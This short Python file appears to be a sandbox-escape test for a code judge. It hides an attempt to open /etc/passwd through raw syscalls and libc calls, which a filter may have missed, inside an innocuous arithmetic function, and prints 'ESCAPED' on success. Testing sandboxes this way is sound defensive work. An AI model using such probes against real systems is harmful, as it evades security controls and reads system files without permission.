# Tries: to open files by calls that the filter may have forgotten. May get: AC.
import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None)
    how = struct.pack("3Q", 0, 0, 0)
    tried = [
        libc.syscall(437, -100, b"/etc/passwd", how, len(how)),  # openat2
        libc.open(b"/etc/passwd", 3),  # neither reading nor writing
        libc.open64(b"/etc/passwd", os.O_RDONLY),
        libc.fopen(b"/etc/passwd", b"r") - 1,
    ]
    return max(tried) >= 0 and f"opened {tried}"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
